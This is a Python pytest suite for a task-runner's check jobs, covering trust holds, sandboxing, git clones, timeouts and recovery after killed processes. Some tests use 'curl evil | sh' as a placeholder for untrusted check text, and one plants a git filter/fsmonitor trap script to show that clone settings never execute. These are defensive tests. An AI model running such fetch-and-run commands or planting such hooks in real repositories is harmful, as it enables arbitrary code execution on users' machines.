"""A check from its claim to its record: its result, its limits, and a kill at each step."""

import json
import os
import signal
import subprocess
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import msgspec
import pytest
import yaml
from attempt_cases import is_running, wait_until
from attempts.job_values import NOW
from capabilities import skip_or_fail
from clones.clone_site import add_clone, name_author, plain
from msgspec import UNSET
from step_cases import CheckSite
from watch_cases import ME, WatchSite, dead_process

from sow.calls.held_jobs import release_accepted
from sow.clone_mark import read_mark
from sow.clones.main_checkout import main_checkout
from sow.clones.mark import Stage, mark_for, write_mark
from sow.clones.record import note_clone
from sow.config.clones import CloneSettings
from sow.git.repository import repository_of
from sow.ids import JobId, TaskId, WorkerId
from sow.jobs import jobs, leases
from sow.sandbox.probe import SandboxUnavailable, usable
from sow.schema.causes import Cause
from sow.schema.job import HeldFor, JobState, Verb
from sow.schema.job_terms import CheckTerms
from sow.schema.step_result import StepResult
from sow.schema.task import TaskClone, TaskStatus
from sow.state.tasks import add_task
from worker.adopt import adopt
from worker.kinds.step import result_of
from worker.postponing import release_if_trusted

pytestmark = pytest.mark.slow  # process after process

OTHER = WorkerId("w2-bbbbbb")
SAY_PID = "echo $$ >.x; mv .x {0}; "


@pytest.fixture
def checks(site: WatchSite) -> Iterator[CheckSite]:
    made = CheckSite(site, unit="echo hello", lint="printf '\\033[31mred\\033[0m\\n'; exit 3")
    yield made
    made.close()


def test_a_check_that_passes_stands_in_the_record_of_its_task(checks: CheckSite) -> None:
    job = checks.run("unit")
    assert (job.state, job.cause, job.reason) == (JobState.DONE, Cause.PASSED, "")
    found = checks.check()
    assert found["passed"] is True
    (result,) = found["results"]
    assert (result["name"], result["exit_code"], result["lines"]) == ("unit", 0, [])
    paths = checks.site.workspace.attempt(job.id, 1)
    assert paths.check_log("unit").read_text() == "hello\n"
    assert paths.check_log("unit").stat().st_mode & 0o777 == 0o600
    assert paths.result.stat().st_mode & 0o777 == 0o600


@pytest.mark.usefixtures("no_bubblewrap")
def test_of_a_check_of_the_base_the_sandbox_of_the_setup_is_looked_at_too(
    checks: CheckSite,
) -> None:
    path = checks.site.workspace.repository_config
    clones = {"setup": "touch ready", "setup_sandbox": "bwrap"}
    path.write_text(yaml.safe_dump({"checks": {"unit": "echo hello"}, "clones": clones}))
    checks.trust()
    assert checks.run("unit").cause is Cause.PASSED, "which has no setup"
    job = checks.place("unit")
    terms = CheckTerms(names=("unit",), base="0" * 40)
    jobs.change_job(checks.site.database, job.id, terms=terms)
    assert checks.start(job) is None
    refused = checks.site.get(job)
    assert (refused.state, refused.cause) == (JobState.FAILED, Cause.SANDBOX_FAILED)
    assert refused.reason.startswith("clones.setup asks for sandbox: bwrap")


def test_a_check_of_the_base_waits_until_its_setup_is_accepted(checks: CheckSite) -> None:
    context = checks.site.context
    path = checks.site.workspace.repository_config
    content = {"checks": {"unit": "echo hello"}}
    path.write_text(yaml.safe_dump(content))
    checks.trust()
    path.write_text(yaml.safe_dump({**content, "clones": {"setup": "touch ready"}}))
    job = checks.place("unit")
    terms = CheckTerms(names=("unit",), base="0" * 40)
    jobs.change_job(checks.site.database, job.id, terms=terms)
    assert checks.start(job) is None
    held = checks.site.get(job)
    assert (held.state, held.held_for) == (JobState.HELD, HeldFor.TRUST)

    def release() -> list[JobId]:
        where = context.workspace, context.database, context.environ
        return release_accepted(*where, now=context.now())

    assert release() == []
    checks.trust()
    assert release() == [job.id]


def test_a_check_in_a_folder_that_no_sandbox_may_have_fails_by_its_settings(
    site: WatchSite,
) -> None:
    """The checkout is the user's home, say: `sow doctor` finds no fault, and nothing crashed."""
    try:
        usable("this test")
    except SandboxUnavailable as error:
        skip_or_fail(error.message)
    environ = {**site.context.environ, "HOME": str(site.workspace.root)}
    site.context = replace(site.context, environ=environ)
    with closing(CheckSite(site, unit={"run": "true", "sandbox": "bwrap"})) as checks:
        job = checks.run("unit")
        assert (job.state, job.cause) == (JobState.FAILED, Cause.CONFIGURATION)
        words, hint = job.reason.splitlines()
        assert words.startswith(f"a sandbox cannot make {site.workspace.root} writable: it is")
        assert "`sandbox: none` for checks.unit" in hint
        checks.write(unit={"run": "true", "sandbox": "none"})
        checks.trust()
        assert checks.run("unit").cause is Cause.PASSED


def test_a_red_check_fails_its_job_and_leaves_the_status_alone(checks: CheckSite) -> None:
    checks.site.change_task(status=TaskStatus.NEEDS_REVIEW)
    job = checks.run("lint", "unit")
    assert (job.state, job.cause) == (JobState.FAILED, Cause.CHECK_FAILED)
    assert job.reason.splitlines() == ["lint: exit code 3", "  lint | red"]
    task = checks.site.task()
    assert task.status is TaskStatus.NEEDS_REVIEW
    found = checks.check()
    assert [(each["name"], each["passed"]) for each in found["results"]] == [
        ("lint", False),
        ("unit", True),
    ]
    assert found["results"][0]["lines"] == ["red"], "no colour comes along"


def test_the_last_lines_of_a_red_check_are_kept_and_no_more(checks: CheckSite) -> None:
    checks.write(long="i=0; while [ $i -lt 500 ]; do echo line $i; i=$((i+1)); done; exit 1")
    checks.trust()
    checks.run("long")
    lines = checks.check()["results"][0]["lines"]
    assert lines == [f"line {number}" for number in range(480, 500)]


def test_what_a_command_leaves_running_has_gone_before_the_next_begins(checks: CheckSite) -> None:
    leaves = "(sleep 1000 & echo $! >.x; mv .x left); setsid sleep 1000 & echo $! >other"
    looks = "for f in left other; do kill -0 $(cat $f) 2>/dev/null && exit 9; done; exit 0"
    checks.write(leaves=leaves, looks=looks)
    checks.trust()
    job = checks.run("leaves", "looks")
    assert job.state is JobState.DONE, job.reason


def test_a_command_that_takes_too_long_is_ended_with_its_tree(checks: CheckSite) -> None:
    checks.write(
        slow={"run": "sleep 1000 & echo $! >.x; mv .x left; echo begun; wait", "timeout": "2s"},
        unit="echo hello",
    )
    checks.trust()
    job = checks.run("slow", "unit")
    slow, unit = checks.check()["results"]
    assert "took longer than 2s" in slow["reason"]
    assert (slow["exit_code"], slow["lines"], unit["passed"]) == (None, ["begun"], True)
    assert not is_running(int(checks.file("left").read_text()))
    assert job.cause is Cause.CHECK_FAILED


def test_the_commit_that_was_judged_is_told_and_whether_files_differed(checks: CheckSite) -> None:
    def git(*words: str) -> str:
        person = ["-c", "user.name=n", "-c", "user.email=e", "-c", "commit.gpgsign=false"]
        argv = ["git", *person, *words]
        return subprocess.check_output(argv, cwd=checks.file("."), text=True).strip()

    git("init", "-q")
    checks.file("a").write_text("a")
    git("add", "a", ".sow/config.yaml")
    git("commit", "-qm", "first")
    checks.run("unit")
    assert checks.check()["commit"] == git("rev-parse", "HEAD")
    assert checks.check()["dirty"] is False, "the project's own state is not what is judged"
    checks.file("a").write_text("b")
    checks.run("unit")
    assert checks.check()["dirty"] is True


@pytest.fixture
def cloned(checks: CheckSite, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The task's clone, with a commit that the user's checkout does not have."""
    checks.file("a").write_text("a")
    plain(checks.file("."), "init", "-q", "-b", "main")
    name_author(checks.file("."))
    plain(checks.file("."), "add", "a", ".sow/config.yaml")
    plain(checks.file("."), "commit", "-qm", "first")
    folder = tmp_path_factory.mktemp("clones")
    place = main_checkout(checks.site.workspace, CloneSettings(folder=str(folder))).place(
        checks.site.task()
    )
    place.path.parent.mkdir(parents=True)
    made = add_clone(checks.file("."), place.path, place.branch)
    made.commit("b", "b")
    mark = mark_for(place, made.facts.base)
    write_mark(place.path, mark._replace(stage=Stage.WHOLE))
    clone = TaskClone(path=mark.path, branch=mark.branch, base=mark.base)
    checks.site.change_task(clone=clone)
    return place.path


def test_what_sow_copied_by_a_pattern_is_no_difference(checks: CheckSite, cloned: Path) -> None:
    path = checks.site.workspace.repository_config
    path.write_text(yaml.safe_dump({"checks": {"unit": "true"}, "clones": {"copy": ["*.local"]}}))
    checks.trust()
    for folder in (checks.file("."), cloned):
        (folder / "keys.local").write_text("k")
    checks.run("unit")
    assert checks.check()["dirty"] is False
    (cloned / "other.local").write_text("the agent's own")
    checks.run("unit")
    assert checks.check()["dirty"] is True


def test_a_task_with_a_clone_is_checked_there(checks: CheckSite, cloned: Path) -> None:
    checks.write(unit="pwd; test -e b")
    checks.trust()
    job = checks.run("unit")
    assert job.cause is Cause.PASSED, job.reason
    assert checks.check()["commit"] == plain(cloned, "rev-parse", "HEAD")
    assert checks.check()["dirty"] is False
    log = checks.site.workspace.attempt(job.id, 1).check_log("unit")
    assert log.read_text() == f"{cloned}\n"
    (cloned / "a").write_text("changed")
    checks.run("unit")
    assert checks.check()["dirty"] is True
    assert checks.run("unit", task="").cause is Cause.CHECK_FAILED, "the project has no such file"


def test_a_clone_off_its_branch_is_red_since_its_branch_is_what_is_merged(
    checks: CheckSite, cloned: Path
) -> None:
    """An agent could so have an old commit checked, and merge a new one that no check has seen."""
    tip = plain(cloned, "rev-parse", "HEAD")
    plain(cloned, "checkout", "-q", "--detach", "HEAD")
    assert checks.run("unit").cause is Cause.PASSED, "the same commit, by another name"
    plain(cloned, "checkout", "-q", "--detach", "HEAD~1")
    job = checks.run("unit")
    assert job.cause is Cause.CHECK_FAILED
    assert f"is at {tip[:12]}. Check out the branch" in job.reason
    assert checks.check()["passed"] is False
    log = checks.site.workspace.attempt(job.id, 1).check_log("unit")
    assert not log.exists(), "nothing was run"


def test_what_a_clone_says_by_its_settings_acts_in_no_check(
    checks: CheckSite, cloned: Path
) -> None:
    trap = cloned / "trap"
    trap.write_text(f"#!/bin/sh\ntouch {cloned}/sprung; cat")
    trap.chmod(0o755)
    plain(cloned, "config", "filter.x.clean", str(trap))
    plain(cloned, "config", "core.fsmonitor", str(trap))
    (cloned / ".git" / "info" / "attributes").write_text("* filter=x\n")
    (cloned / "a").write_text("changed")
    checks.run("unit")
    assert not (cloned / "sprung").exists()


def test_a_clone_that_is_gone_or_is_a_link_is_not_checked(checks: CheckSite, cloned: Path) -> None:
    elsewhere = cloned.with_name("elsewhere")
    cloned.rename(elsewhere)
    for makes in (lambda: None, lambda: cloned.symlink_to(elsewhere)):
        makes()
        job = checks.place("unit")
        assert checks.start(job) is None
        assert checks.site.get(job).cause is Cause.CONFIGURATION
    assert checks.site.task().check is UNSET


def test_a_clone_that_is_not_finished_is_not_checked(checks: CheckSite, cloned: Path) -> None:
    mark = read_mark(str(cloned))
    assert mark is not None
    write_mark(cloned, mark._replace(stage=Stage.MADE))
    job = checks.place("unit")
    assert checks.start(job) is None
    assert "there is no complete clone" in checks.site.get(job).reason


def test_a_copied_checkout_checks_nothing_in_the_originals_clone(
    checks: CheckSite, cloned: Path
) -> None:
    """The state of the copy names the clone; the copy has an id of its own, so it is not its."""
    original = cloned.parents[2] / "original"
    checkout = checks.file(".git/sow/checkout.json")
    record = json.loads(checkout.read_text())
    plain(checks.file("."), "clone", "-q", ".", str(original))
    (original / ".git/sow").mkdir()
    moved = {**record, "path": str(original)}
    for path in (original / ".git/sow/checkout.json", checkout):
        path.write_text(json.dumps(moved))
    job = checks.place("unit")
    assert checks.start(job) is None
    assert "there is no complete clone" in checks.site.get(job).reason


def test_what_a_setup_has_left_is_no_difference(checks: CheckSite, cloned: Path) -> None:
    mark = read_mark(str(cloned))
    assert mark is not None
    (cloned / "made").mkdir()
    (cloned / "made" / "by-setup").write_text("x")
    checks.run("unit")
    assert checks.check()["dirty"] is True
    main = repository_of(checks.site.workspace.root)
    note_clone(main, mark._replace(copied=("made",)))
    checks.run("unit")
    assert checks.check()["dirty"] is False
    (cloned / "other").write_text("the agent's own")
    write_mark(cloned, mark._replace(copied=("made", "other")))  # as the agent can
    checks.run("unit")
    assert checks.check()["dirty"] is True


def test_without_git_no_commit_is_told(checks: CheckSite) -> None:
    checks.run("unit")
    assert checks.check()["commit"] is None


def test_a_check_of_the_project_has_no_task(checks: CheckSite) -> None:
    before = checks.site.state_file().read_bytes()
    assert checks.run("unit", task="").state is JobState.DONE
    assert checks.run("lint", task="").reason.startswith("lint: exit code 3")
    assert checks.site.state_file().read_bytes() == before


def test_a_name_that_is_no_check_any_more_fails_the_job_and_not_the_task(checks: CheckSite) -> None:
    job = checks.place("unit")
    checks.write(lint="true")
    checks.trust()
    assert checks.start(job) is None
    ended = checks.site.get(job)
    assert ended.state is JobState.FAILED
    assert "no such check: unit" in ended.reason
    assert checks.site.task().status is TaskStatus.PENDING


def test_a_command_of_a_check_has_no_rights_in_sow(checks: CheckSite) -> None:
    checks.write(unit="env >seen")
    checks.trust()
    checks.run("unit")
    lines = checks.file("seen").read_text().splitlines()
    assert "SOW_AGENT=sow-step" in lines
    assert "SOW_JOB_ID=1" in lines


def test_what_nobody_has_accepted_is_held_and_goes_on_once_it_is(checks: CheckSite) -> None:
    checks.write(unit="echo other")
    job = checks.place("unit")
    assert checks.start(job) is None
    held = checks.site.get(job)
    assert held.state is JobState.HELD
    assert "sow trust" in held.reason
    assert leases.lease_of(checks.site.database, job.id) is None
    assert not jobs.has_active_jobs(checks.site.database), "it keeps no worker alive"
    release_if_trusted(checks.site.context)
    assert checks.site.get(job).state is JobState.HELD
    checks.trust()
    release_if_trusted(checks.site.context)
    assert checks.site.get(job).state is JobState.QUEUED
    running = checks.start(job)
    assert running is not None
    assert checks.watched(running).state is JobState.DONE


def test_a_text_that_changes_after_it_was_accepted_is_held_again(checks: CheckSite) -> None:
    assert checks.run("unit").state is JobState.DONE
    checks.write(unit="echo hello", lint="curl evil | sh")
    job = checks.place("lint")
    assert checks.start(job) is None
    assert "have changed since" in checks.site.get(job).reason


def test_a_check_that_was_accepted_runs_whatever_has_changed_beside_it(checks: CheckSite) -> None:
    checks.write(unit="echo hello", lint="curl evil | sh")
    assert checks.run("unit").state is JobState.DONE


def test_each_held_job_goes_on_once_what_it_needs_is_accepted(checks: CheckSite) -> None:
    checks.write(unit="echo other", lint="true")
    add_task(checks.site.workspace, name="B", agent="implementer", now=NOW, task_id=TaskId("020"))
    held = [checks.place("unit"), checks.place("unit", "lint", task="020")]
    for job in held:
        checks.start(job)
    checks.trust()
    checks.write(unit="echo other", lint="curl evil | sh")
    release_if_trusted(checks.site.context)
    states = [checks.site.get(job).state for job in held]
    assert states == [JobState.QUEUED, JobState.HELD]


def test_a_word_that_was_said_a_moment_too_early_is_heard(
    checks: CheckSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`sow trust` comes between the look and the commit that holds the job: none waits for ever."""
    checks.write(unit="echo other")
    job = checks.place("unit")
    before = leases.hold

    def hold(*arguments: object, **more: object) -> None:
        checks.trust()
        before(*arguments, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(leases, "hold", hold)
    checks.start(job)
    assert checks.site.get(job).state is JobState.QUEUED


def test_a_held_job_whose_end_is_asked_for_ends(checks: CheckSite) -> None:
    checks.write(unit="echo other")
    job = checks.place("unit")
    jobs.change_job(checks.site.database, job.id, cancel_requested_at=1.0)
    checks.start(job)
    assert checks.site.get(job).state is JobState.CANCELLED


def test_a_check_that_is_cancelled_leaves_nothing_running_and_no_record(checks: CheckSite) -> None:
    checks.write(unit=SAY_PID.format("begun") + "sleep 1000")
    checks.trust()
    job = checks.place("unit")
    running = checks.start(job)
    assert running is not None
    wait_until(checks.file("begun").exists)
    jobs.change_job(checks.site.database, job.id, cancel_requested_at=1.0)
    ended = checks.watched(running)
    assert ended.state is JobState.CANCELLED
    assert checks.site.task().check is UNSET
    assert checks.site.task().status is TaskStatus.PENDING
    assert not is_running(int(checks.file("begun").read_text()))


TWICE = "test -e again || { touch again; " + SAY_PID.format("begun") + "sleep 1000; }"
"""A command that hangs the first time it is run, and passes the second."""


def test_a_program_that_is_killed_is_run_again_and_nothing_runs_twice(checks: CheckSite) -> None:
    checks.write(unit=TWICE)
    checks.trust()
    job = checks.place("unit")
    running = checks.start(job)
    assert running is not None
    first = int(_read(checks.file("begun")))
    os.kill(checks.site.attempts[-1].agent_pid(), signal.SIGKILL)
    assert checks.watched(running, until=JobState.BACKOFF).cause is Cause.PREVENTED
    assert not is_running(first)
    again = checks.start(job)
    assert again is not None
    assert checks.watched(again).state is JobState.DONE
    assert checks.check()["passed"] is True


def test_without_its_supervisor_a_check_goes_on_and_its_result_counts(checks: CheckSite) -> None:
    checks.write(unit=SAY_PID.format("begun") + "while ! test -e go; do sleep 0.05; done")
    checks.trust()
    job = checks.place("unit")
    running = checks.start(job)
    assert running is not None
    _read(checks.file("begun"))
    checks.site.attempts[-1].kill_forked()
    checks.file("go").touch()
    assert checks.watched(running).cause is Cause.PASSED
    assert len(jobs.attempts(checks.site.database, job.id)) == 1


def test_when_all_of_it_is_killed_it_is_run_again(checks: CheckSite) -> None:
    checks.write(unit=TWICE)
    checks.trust()
    job = checks.place("unit")
    running = checks.start(job)
    assert running is not None
    command = int(_read(checks.file("begun")))
    program = checks.site.attempts[-1].agent_pid()
    checks.site.attempts[-1].kill_forked()
    for pid in (program, command):
        os.kill(pid, signal.SIGKILL)
    checks.site.attempts[-1].kill_carriers()
    checks.watched(running, until=JobState.QUEUED)
    assert checks.site.last_attempt(job).cause is Cause.WORKER_DIED
    again = checks.start(job)
    assert again is not None
    assert checks.watched(again).state is JobState.DONE


def test_an_attempt_that_had_no_orders_yet_is_made_again(checks: CheckSite) -> None:
    """The worker died between the record and the orders: its supervisor has left."""
    job = checks.place("unit")
    checks.claim()
    checks.site.attempt(job, supervisor=dead_process(), verb=Verb.CHECK)
    checks.watched(checks.site.adopt(job), until=JobState.QUEUED)
    assert checks.site.last_attempt(job).cause is Cause.WORKER_DIED
    again = checks.start(job)
    assert again is not None
    assert checks.watched(again).state is JobState.DONE


def test_a_worker_that_dies_after_the_claim_leaves_a_job_to_be_started(checks: CheckSite) -> None:
    job = checks.place("unit")
    checks.claim()
    leases.take_over(checks.site.database, ME, OTHER, now=checks.site.context.now())
    (lease,) = leases.leases_of(checks.site.database, OTHER)
    assert adopt(checks.site.context, lease) is None
    assert checks.site.get(job).state is JobState.QUEUED


@pytest.mark.parametrize("settled", ["nothing", "the cause"])
def test_a_worker_that_dies_after_the_end_leaves_it_to_the_next(
    checks: CheckSite, settled: str
) -> None:
    job = checks.place("lint")
    running = checks.start(job)
    assert running is not None
    wait_until(running.paths.exit.exists)
    if settled == "the cause":
        verdict = {"cause": Cause.CHECK_FAILED, "reason": "lint: exit code 3"}
        jobs.change_attempt(checks.site.database, job.id, 1, **verdict)
    leases.take_over(checks.site.database, ME, OTHER, now=checks.site.context.now())
    (lease,) = leases.leases_of(checks.site.database, OTHER)
    adopted = adopt(checks.site.context, lease)
    assert adopted is not None
    assert checks.watched(adopted).cause is Cause.CHECK_FAILED
    assert checks.check()["passed"] is False
    assert len(jobs.attempts(checks.site.database, job.id)) == 1


def test_a_worker_that_is_stopped_has_the_check_run_again(checks: CheckSite) -> None:
    checks.write(unit=TWICE)
    checks.trust()
    job = checks.place("unit")
    running = checks.start(job)
    assert running is not None
    _read(checks.file("begun"))
    monitor = checks.watch(running)
    monitor.end_all()
    assert monitor.wait_until_idle(30.0)
    monitor.stop()
    assert checks.site.get(job).state is JobState.QUEUED
    again = checks.start(job)
    assert again is not None
    assert checks.watched(again).state is JobState.DONE


def test_a_broken_result_is_none(checks: CheckSite) -> None:
    job = checks.place("unit")
    running = checks.start(job)
    assert running is not None
    wait_until(running.paths.exit.exists)
    assert result_of(running) is not None
    running.paths.result.write_bytes(msgspec.json.encode(StepResult(cause=Cause.PASSED))[:-4])
    assert result_of(running) is None
    assert checks.watched(running, until=JobState.BACKOFF).cause is Cause.CRASHED


def test_a_task_that_is_gone_ends_its_check_as_failed(checks: CheckSite) -> None:
    job = checks.place("unit")
    running = checks.start(job)
    assert running is not None
    checks.site.state_file().unlink()
    ended = checks.watched(running)
    assert (ended.state, ended.owes_task) == (JobState.FAILED, False)


def _read(path: Path) -> str:
    wait_until(path.exists, f"{path.name} is written")
    return path.read_text()
